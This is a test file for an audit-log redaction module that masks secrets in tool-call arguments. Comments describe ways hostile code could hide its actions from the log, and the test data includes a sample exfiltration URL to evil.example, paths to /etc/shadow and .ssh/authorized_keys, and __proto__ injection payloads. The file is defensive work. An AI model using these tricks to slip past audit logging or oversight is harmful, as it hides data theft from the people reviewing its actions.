import { describe, expect, it } from "vitest";
import { AUDIT_LIMITS, BRIDGE_LIMITS, PROTOCOL_LIMITS } from "../../../../shared/limits.js";
import { SECRET_MARK, maskDeep, SECRET_MASK_MIN_CHARS } from "./secret-mask.js";
import { redactArgs } from "./redaction.js";

describe("redactArgs", () => {
  it("logs no arguments at all for a tool marked to hide them", () => {
    expect(redactArgs({ path: "/home/me/diary.txt" }, { hidden: true, secrets: [] })).toBeNull();
  });

  it("logs the arguments as JSON when nothing is secret", () => {
    expect(redactArgs({ city: "Oslo", days: 3 }, { hidden: false, secrets: [] })).toBe(
      '{"city":"Oslo","days":3}',
    );
  });

  it("replaces each occurrence of a secret, however deep, and keeps the rest", () => {
    const secrets = ["sk-live-abc123", "hunter22"];
    const args = {
      token: "sk-live-abc123",
      header: "Bearer sk-live-abc123",
      nested: { list: ["ok", ["also ok", "pw=hunter22;"]], n: 1 },
      plain: "nothing to hide",
    };
    const text = redactArgs(args, { hidden: false, secrets }) ?? "";
    expect(JSON.parse(text)).toEqual({
      token: SECRET_MARK,
      header: `Bearer ${SECRET_MARK}`,
      nested: { list: ["ok", ["also ok", `pw=${SECRET_MARK};`]], n: 1 },
      plain: "nothing to hide",
    });
    for (const secret of secrets) expect(text).not.toContain(secret);
  });

  it("keeps an argument that merely contains a secret readable around it", () => {
    // Attack: the code appends a secret it can guess (a database password such as "postgres")
    // to an exfiltration URL; the log replaced the whole value, hiding where the data went.
    const url = "https://evil.example/collect?d=c2VjcmV0cw&pad=postgres";
    const text = redactArgs({ url }, { hidden: false, secrets: ["postgres"] });
    expect(text).toBe(
      JSON.stringify({ url: `https://evil.example/collect?d=c2VjcmV0cw&pad=${SECRET_MARK}` }),
    );
  });

  it("masks keys and numbers where they spell a secret, numbering keys masked alike", () => {
    const text = redactArgs(
      { "sk-11111": "a", "x sk-11111": "b", "x sk-22222": "c", pin: 43214321, other: 12 },
      { hidden: false, secrets: ["", "sk-11111", "sk-22222", "43214321"] },
    );
    expect(JSON.parse(text ?? "")).toEqual({
      [SECRET_MARK]: "a",
      [`x ${SECRET_MARK}`]: "b",
      [`x ${SECRET_MARK}#2`]: "c",
      pin: SECRET_MARK,
      other: 12,
    });
    expect(redactArgs({ a: "b" }, { hidden: false, secrets: [""] })).toBe('{"a":"b"}');
  });

  it("masks nothing shorter than SECRET_MASK_MIN_CHARS, as every other reader", () => {
    const short = "x".repeat(SECRET_MASK_MIN_CHARS - 1);
    const args = { a: `value ${short}` };
    expect(redactArgs(args, { hidden: false, secrets: [short] })).toBe(JSON.stringify(args));
  });

  it("cuts the arguments to argsMaxBytes of JSON, a long string by as little as it takes", () => {
    const text = redactArgs({ blob: "é".repeat(10_000) }, { hidden: false, secrets: [] }) ?? "";
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(AUDIT_LIMITS.argsMaxBytes);
    expect(Buffer.byteLength(text)).toBeGreaterThan(AUDIT_LIMITS.argsMaxBytes - 4);
    const blob = (JSON.parse(text) as { blob: string }).blob;
    expect(blob.endsWith("…")).toBe(true);
  });

  it("keeps every key and the start of every value: a long field cannot push the rest out", () => {
    // Attack: the code chooses the arguments; a long harmless field first put what the call
    // really did past the 2 KiB the log keeps of them.
    const args = {
      note: "a harmless note ".repeat(900),
      path: "/home/me/.ssh/authorized_keys",
      list: ["x".repeat(5000), "second"],
    };
    const text = redactArgs(args, { hidden: false, secrets: [] }) ?? "";
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(AUDIT_LIMITS.argsMaxBytes);
    const logged = JSON.parse(text) as typeof args;
    expect(logged.path).toBe(args.path);
    expect(logged.list[1]).toBe("second");
    expect(logged.note.startsWith("a harmless note")).toBe(true);
    expect(logged.note.endsWith("…")).toBe(true);
    // Keys are cut too, and two cut alike both stay.
    const keys = { ["k".repeat(3000) + "1"]: 1, ["k".repeat(3000) + "2"]: 2, path: "/x" };
    const cutKeys = JSON.parse(redactArgs(keys, { hidden: false, secrets: [] }) ?? "") as object;
    expect(Object.values(cutKeys)).toEqual([1, 2, "/x"]);
  });

  it("cuts many keys alike in time linear in their number", () => {
    const LINEAR_BOUND_MS = 5_000;
    // Attack: a call (forged on the protocol pipe, so up to a line's 128 KiB) whose keys all cut
    // to the same text. Each was numbered by trying #2, #3, ... from the start: 1,800 keys in a
    // call's 16 KiB held the host's thread ~0.7 s per call, 14,000 in 128 KiB ~80 s.
    for (const bytes of [BRIDGE_LIMITS.argsMaxBytes, PROTOCOL_LIMITS.lineMaxBytes]) {
      const args: Record<string, number> = {};
      for (let i = 0, length = 2; length < bytes; i++) {
        args[`a${i}`] = 0;
        length += `"a${i}":0,`.length;
      }
      const started = performance.now();
      const text = redactArgs(args, { hidden: false, secrets: [] }) ?? "";
      // Far above linear (a few ms) and far below the quadratic 128 KiB case (~80 s), so a
      // loaded machine cannot fail it and the old code cannot pass it.
      expect(performance.now() - started).toBeLessThan(LINEAR_BOUND_MS);
      // Too many keys to fit even cut: the JSON text's start, numbered keys.
      expect(text.startsWith('{"…":0,"…#2":0,"…#3":0,')).toBe(true);
    }
  });

  it("shows an argument named __proto__ like any other key", () => {
    // Attack: the code names an argument `__proto__` (an own key once parsed from JSON). Copied
    // into a plain object it set the copy's prototype, so it vanished from the logged args
    // whenever they were redacted (a secret configured) or cut (too long).
    const parse = (text: string): unknown => JSON.parse(text);
    const withSecret = redactArgs(parse('{"__proto__":{"path":"/etc/shadow"},"key":"sk-11111"}'), {
      hidden: false,
      secrets: ["sk-11111"],
    });
    expect(withSecret).toBe('{"__proto__":{"path":"/etc/shadow"},"key":"[secret]"}');
    const long = redactArgs(parse(`{"__proto__":"/etc/shadow","note":"${"x".repeat(5000)}"}`), {
      hidden: false,
      secrets: [],
    });
    expect(JSON.parse(long ?? "")).toHaveProperty(["__proto__"], "/etc/shadow");
  });

  it("stops at argsMaxDepth instead of walking without end", () => {
    let deep: unknown = "sk-11111";
    for (let i = 0; i < 5000; i += 1) deep = [deep];
    const text = redactArgs(deep, { hidden: false, secrets: ["sk-11111"] }) ?? "";
    expect(text).toContain("[too deep]");
    expect(text).not.toContain("sk-11111");
  });
});

describe("maskDeep", () => {
  it("keeps a key named __proto__", () => {
    const scrubbed = maskDeep(JSON.parse('{"__proto__":"abcdefgh"}') as unknown, ["abcdefgh"]);
    expect(JSON.stringify(scrubbed)).toBe('{"__proto__":"[secret]"}');
  });
});

describe("a __proto__ key in the arguments", () => {
  // Attack: JSON.parse makes "__proto__" an own key of the call's arguments, and the server gets
  // it (a free-form nested object lets it through the schema). Copied by assignment, it set the
  // copy's prototype instead: the audit entry and the "ask first" panel left it out.
  const args = JSON.parse(
    '{"path":"notes.md","options":{"__proto__":{"isAdmin":true},"mode":"append"}}',
  ) as Record<string, unknown>;
  const whole = JSON.stringify(args);

  it("is logged, with secrets to redact, and when the arguments are too long to log whole", () => {
    expect(redactArgs(args, { hidden: false, secrets: ["sk-live-abcdef123456"] })).toBe(whole);
    const long = JSON.parse(
      `{"note":"${"x".repeat(AUDIT_LIMITS.argsMaxBytes)}","options":{"__proto__":{"isAdmin":true}}}`,
    ) as Record<string, unknown>;
    const logged = redactArgs(long, { hidden: false, secrets: [] });
    expect(logged).toContain('"options":{"__proto__":{"isAdmin":true}}');
  });

  it("stays a key through maskDeep", () => {
    expect(JSON.stringify(maskDeep(args, ["sk-live-abcdef123456"]))).toBe(whole);
  });
});
